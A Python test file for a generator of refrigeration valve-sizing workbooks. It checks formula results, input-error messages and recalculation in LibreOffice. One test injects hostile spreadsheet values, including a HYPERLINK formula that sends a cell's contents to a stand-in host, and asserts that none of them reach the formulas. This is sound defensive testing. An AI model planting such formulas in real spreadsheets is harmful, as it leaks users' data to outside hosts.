"""The workbook's first sheet, calculated with many inputs: its sizes are those that the data set's windows give."""

import dataclasses
import html
import math
import os
import random
import re
import shutil
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from tablegen.answers.case import Case
from tablegen.answers.order import order_line
from tablegen.answers.pick import pick
from tablegen.dataset.dataset import DataSet
from tablegen.model.offer import charges_of, offers
from tablegen.model.part_numbers import PartNumber
from tablegen.model.stock import Stock, StockItem
from tablegen.report.pages.back import numbers_of_size
from tablegen.report.publications.publication import Publication
from tablegen.report.workbook_find import first_sheet, sheets_behind
from tablegen.report.workbook_lookup import Lookup, size_value
from tablegen.report.xlsx import Properties, workbook_at
from tablegen.units import print_unit
from tablegen.wording.workbook import ANSWERS
from tests.demo import demo_data, reprinted, with_inputs
from tests.phone.answers import Look, Size, answer, suction_rows
from tests.spreadsheet import Spreadsheet

FIND = "Find a size"
SAID = [text() for text in ANSWERS]
NO_FAMILY, OUTSIDE, COVERED, NOT_COVERED, NO_WINDOW, NOT_IN_STOCK = (SAID[i] for i in (2, 8, 11, 12, 13, 14))
FIRST_ROW, MOST = 19, 25
# All that are used; spreadsheets have had them for long.
FUNCTIONS = {
    *("ABS", "AND", "COUNT", "IF", "INDEX", "INT", "ISNUMBER", "LARGE", "MATCH"),
    *("MAX", "MIN", "N", "NOT", "OR", "ROUND", "ROW", "SUM", "SUMPRODUCT"),
}


def written(data: DataSet, path: Path) -> Path:
    publication = Publication.of(data)
    with workbook_at(path, Properties("", "", "", publication.date)) as book:
        sheets = first_sheet(book, publication)
        assert sheets
        sheets_behind(book, sheets)
    return path


def stocked(data: DataSet) -> DataSet:
    """Every third valve is on the shelf, every fifth has been, and some were not counted."""
    valves = [
        PartNumber(number="", family=family.name, size=size.name, charge=element)
        for family in data.catalogue.families.values()
        for size in family.sizes
        for element in ([own.name for own in family.elements] or [""])
    ]
    items = [
        StockItem(valve=valve, quantity=(0 if i % 5 == 0 else None if i % 2 else i), location="=A3")
        for i, valve in enumerate(valves)
        if i % 3 == 0 or i % 5 == 0
    ]
    return with_inputs(data, stock=Stock(file="stock.csv", items=tuple(items)))


def test_part_numbers_of_the_stock_sheet_are_with_their_sizes_as_on_an_order_line():
    """A catalogue without a list has numbers in its stock sheet alone; a valve that is gone has none."""
    data = with_inputs(demo_data(), part_numbers=())
    rows = (
        ("T-1", "45", "cross-404-medium", 3),
        ("T-2", "45", "cross-404-low", None),
        ("T-3", "63", "cross-404-medium", 0),
    )
    items = tuple(
        StockItem(valve=PartNumber(number=number, family="alder", size=size, charge=charge), quantity=quantity)
        for number, size, charge, quantity in rows
    )
    publication = Publication.of(with_inputs(data, stock=Stock(file="stock.csv", items=items)))
    assert [numbers_of_size(publication, "alder", size) for size in ("45", "63", "22")] == ["T-1; T-2", "", ""]
    found = {
        row.part_numbers
        for application in Lookup.of(publication).applications
        for block in application.blocks
        if block.subject == "R404A"
        for row in block.rows
        if row.valve == "Alder 45"
    }
    assert found == {"T-1", "T-2"}
    for number, size, charge, _ in rows:
        valve = Picking("alder", size, charge)
        line = order_line(publication.catalogue, valve)
        assert line.part_number == ("" if number == "T-3" else number)


@dataclasses.dataclass(frozen=True)
class Picking:
    """A valve that is ordered."""

    family: str
    size: str
    charge: str


@dataclasses.dataclass(frozen=True)
class Asked:
    """Inputs of the sheet, and the same for the data set."""

    inputs: dict[str, Any]
    look: Look
    stock_only: bool


def asked(data: DataSet, chance: random.Random) -> Asked:
    catalogue, units = data.catalogue, data.catalogue.printing.units
    application = chance.choice(list(catalogue.applications))
    offered = offers(catalogue)[application]
    name = chance.choice([own for own, found in offered.items() if found.families])
    own = catalogue.applications[application]
    degrees = [round(print_unit("temperature", units).of(kelvin), 2) for kelvin in own.sst_k.tolist()]
    between = round(chance.uniform(degrees[0], degrees[-1]), 1)
    sst = chance.choice([chance.choice(degrees), between, degrees[-1], degrees[0] - 1.0])
    load = float(f"{math.exp(chance.uniform(-0.7, 5.0)) / (1.0 if units == 'IP' else 3.412):.3g}")
    family = chance.choice(["", "", chance.choice(list(catalogue.families))])
    records, groups = catalogue.records, catalogue.groups
    inputs: dict[str, Any] = {
        "B4": own.title,
        "B5": name if name in records else groups[name].title,
        "B6": catalogue.families[family].display_name if family else "All families",
        "B7": sst,
        "B8": None,
        "B9": None,
        "B10": load,
    }
    look = Look(name, application, str(sst), units, str(load), units, family)
    if chance.random() < 0.3:
        td = round(print_unit("temperature difference", units).of(own.coil_temperature_difference_k or 0.0), 2)
        own_td = chance.choice([None, td + 2.0])
        inputs |= {"B7": None, "B8": round(sst + (own_td or td), 2), "B9": own_td}
    stock_only = bool(catalogue.stock) and chance.random() < 0.7
    return Asked(inputs | ({"B11": "Yes" if stock_only else "No"} if catalogue.stock else {}), look, stock_only)


def expected(data: DataSet, one: Asked) -> list[tuple[Size, bool]]:
    """The sizes of the case, each with whether it is in stock."""
    look, catalogue = one.look, data.catalogue
    offered = offers(catalogue)[look.application][look.name].families
    found = []
    is_inside = suction_rows(data, look.application, look.sst, look.degrees)
    for size in answer(data, look) if is_inside else ():
        if size.family in offered:
            charges = set(charges_of(catalogue, size.family, look.name, look.application).values())
            charge = charges.pop() if len(charges) == 1 else ""
            stock = catalogue.stock
            is_there = not stock or stock.has(size.family, size.size, charge)
            found.append((size, is_there))
    return found


def assert_answered(data: DataSet, one: Asked, value: Any) -> str:
    """The sheet, whose cells `value` gives, says what the data set does; what it says."""
    sizes = expected(data, one)
    fitting = sorted((own for own in sizes if own[0].verdict == "fits"), key=lambda own: -own[0].margin)
    listed = [own for own in fitting if own[1] or not one.stock_only]
    is_open = any(size.window for size, _ in sizes)
    said = COVERED if listed else NOT_IN_STOCK if fitting else NOT_COVERED if is_open else NO_WINDOW
    rows = [[value(f"{c}{r}") for c in "ABCDE"] for r in range(FIRST_ROW, FIRST_ROW + MOST)]
    rows = [row for row in rows if row[0]]
    if one.look.family not in ("", *offers(data.catalogue)[one.look.application][one.look.name].families):
        said = NO_FAMILY
    elif not sizes:
        said = OUTSIDE
    assert value("B13") == said, one
    assert sizes or not rows
    names = [data.catalogue.valve_name(size.family, size.size) for size, _ in listed]
    assert (value("B14") or "") == (names[0] if listed else "")
    if fitting:
        assert [row[0] for row in rows] == names, one
        for row, (size, _) in zip(rows, listed, strict=True):
            assert size.window
            assert row[2:4] == [float(limit) for limit in size.window]
            assert row[4] == math.floor(round(size.margin * 100, 6)) / 100
        best = data.catalogue.valve_name(fitting[0][0].family, fitting[0][0].size)
        is_next = bool(data.catalogue.stock) and one.stock_only and names[:1] != [best]
        assert (value("B15") or "") == (best if is_next else "")
    elif is_open:
        # The nearest on either side.
        small = max((float(s.window[1]) for s, _ in sizes if s.window and s.verdict == "too_small"), default=None)
        large = min((float(s.window[0]) for s, _ in sizes if s.window and s.verdict == "too_large"), default=None)
        assert [row[3] if row[4] == "Too small" else row[2] for row in rows] == [x for x in (small, large) if x]
    return said


@pytest.fixture(scope="module", params=["IP", "SI in stock"])
def made(request, tmp_path_factory) -> tuple[DataSet, Path]:
    data = reprinted(demo_data(), units=request.param[:2])
    data = stocked(data) if "stock" in request.param else data
    return data, written(data, tmp_path_factory.mktemp("find") / "windows.xlsx")


def test_the_sheet_finds_what_the_windows_say(made):
    data, path = made
    book, chance = Spreadsheet(path), random.Random(11)
    said = set()
    for _ in range(40):
        one = asked(data, chance)
        book.given(FIND, one.inputs)
        said.add(assert_answered(data, one, lambda cell: book.value(FIND, cell)))
    assert said >= {COVERED, NOT_COVERED, OUTSIDE}


def test_a_reader_that_does_not_compute_shows_the_answer_to_the_opening_case(made):
    _, path = made
    book = Spreadsheet(path)
    shown = openpyxl.load_workbook(path, data_only=True)
    count = 0
    for title in (FIND, "Calculation"):
        for row in book.book[title].iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    count += 1
                    computed, cached = book.value(title, cell.coordinate), shown[title][cell.coordinate].value
                    assert (cached or 0) == (computed or 0), cell.coordinate
    assert count > 300
    assert shown[FIND]["B13"].value == COVERED and shown[FIND]["B14"].value


@pytest.mark.slow
def test_at_a_row_the_sheet_and_pick_choose_the_same_sizes(tmp_path):
    data = demo_data()
    book = Spreadsheet(written(data, tmp_path / "windows.xlsx"))
    for name, application, sst, loads in (
        ("R448A", "walk_in_medium", 24.0, (20.0, 22.0, 24.0)),
        ("R404A", "walk_in_low", -20.0, (12.0, 9.0, 16.0)),
        ("R448A-family", "walk_in_medium", 30.0, (7.0, 9.0, 10.0)),
    ):
        own = data.catalogue.applications[application]
        shown = data.catalogue.groups[name].title if name in data.catalogue.groups else name
        # Printed limits are narrower by less than a hundredth: the first load that is as far from every limit.
        load, picked = next(
            (load, found)
            for load in loads
            for found in [pick(data.catalogue, Case(name, (sst + 459.67) / 1.8, load * 293.07107, application))]
            if all(c.margin > 1.01 for c in found.fitting)
        )
        book.given(FIND, {"B4": own.title, "B5": shown, "B7": sst, "B10": load})
        names = [data.catalogue.valve_name(c.family, c.size) for c in picked.fitting]
        rows = [book.value(FIND, f"A{row}") for row in range(FIRST_ROW, FIRST_ROW + MOST)]
        assert sorted(filter(None, rows)) == sorted(names) and names


WRONG = [
    ({"B4": "No such application"}, 0),
    ({"B4": None}, 0),
    ({"B5": "R12"}, 1),
    ({"B5": "*"}, 1),
    ({"B6": "Oak"}, 2),
    ({"B4": "Walk-in freezer, fixed head pressure", "B7": -20.0, "B6": "Larch"}, 2),
    ({"B7": "26F"}, 4),
    ({"B7": None}, 5),
    ({"B8": 36.0}, 6),
    ({"B7": None, "B8": 36.0, "B9": -1.0}, 7),
    ({"B7": 41.0}, 8),
    ({"B7": None, "B8": 8.0}, 8),
    ({"B9": 10.0}, 10),
    ({"B7": None, "B8": 32.0, "B9": 8.0}, 10),
    ({"B10": None}, 9),
    ({"B10": -4.0}, 9),
    ({"B10": "20 kBtu/h"}, 9),
]


@pytest.fixture(scope="module")
def opened(tmp_path_factory) -> Spreadsheet:
    return Spreadsheet(written(demo_data(), tmp_path_factory.mktemp("wrong") / "windows.xlsx"))


@pytest.mark.parametrize(("inputs", "said"), WRONG)
def test_a_wrong_input_is_named_and_nothing_is_recommended(inputs, said, opened):
    before = {cell: opened.value(FIND, cell) for cell in ("B4", "B5", "B6", "B7", "B8", "B9", "B10")}
    opened.given(FIND, inputs)
    assert opened.value(FIND, "B13") == SAID[said]
    assert not opened.value(FIND, "B14") and not opened.value(FIND, "A19")
    opened.given(FIND, before)


@pytest.mark.slow
def test_formulas_contain_no_text_of_a_catalogue(tmp_path):
    data = stocked(demo_data())
    hostile = '=HYPERLINK("http://example.invalid/"&A1)'
    applications = {k: dataclasses.replace(own, title=hostile) for k, own in data.catalogue.applications.items()}
    families = {k: dataclasses.replace(own, display_name="+1+1") for k, own in data.catalogue.families.items()}
    path = written(with_inputs(data, applications=applications, families=families), tmp_path / "windows.xlsx")
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
    formulas = [html.unescape(text) for sheet in sheets for text in re.findall("<f>(.*?)</f>", sheet)]
    assert len(formulas) > 300
    assert not any("HYPERLINK" in text or "+1+1" in text or "=A3" in text for text in formulas)
    # Functions that spreadsheets have had since 2007.
    used = {name for text in formulas for name in re.findall(r"([A-Z.]+)\(", text)}
    assert used <= FUNCTIONS
    # Of equal titles each can be chosen; an input stays a text.
    sheet = openpyxl.load_workbook(path)[FIND]
    assert sheet["B4"].value == hostile and sheet["B4"].data_type == "s" and sheet["B4"].number_format == "@"
    listed = [row[0] for row in openpyxl.load_workbook(path)["Lists"].iter_rows(min_row=2, max_col=1, values_only=True)]
    titles = [title for title in listed if title]
    assert len({title.casefold() for title in titles}) == len(titles) == len(applications)


@pytest.mark.parametrize(
    ("size", "value"), [("11", 11), ("1.6", 1.6), ("1.60", "1.60"), ("1/4", "1/4"), ("٣", "٣"), ("0", 0), ("-1", "-1")]
)
def test_a_size_is_a_number_where_it_reads_as_one(size, value):
    assert size_value(size) == value and isinstance(size_value(size), type(value))


@pytest.mark.slow
def test_a_real_spreadsheet_finds_the_same(made, tmp_path):
    office = shutil.which("soffice")
    if office is None:
        if os.environ.get("TABLEGEN_SPREADSHEET") == "required":
            pytest.fail("no soffice was found")
        pytest.skip("no soffice was found: the formulas were not calculated by a spreadsheet")
    data, path = made
    chance = random.Random(12)
    cases = [asked(data, chance) for _ in range(30)]
    for i, one in enumerate(cases):
        book = openpyxl.load_workbook(path)
        for cell, value in one.inputs.items():
            book[FIND][cell] = value
        # What is written so has no values, so that all are calculated.
        book.save(tmp_path / f"{i}.xlsx")
    files = [str(tmp_path / f"{i}.xlsx") for i in range(len(cases))]
    profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
    out = tmp_path / "out"
    subprocess.run(
        [office, profile, "--headless", "--convert-to", "xlsx", "--outdir", str(out), *files],
        check=True,
        capture_output=True,
        timeout=900,
    )
    for i, one in enumerate(cases):
        sheet = openpyxl.load_workbook(out / f"{i}.xlsx", data_only=True)[FIND]
        assert_answered(data, one, lambda cell, own=sheet: own[cell].value)
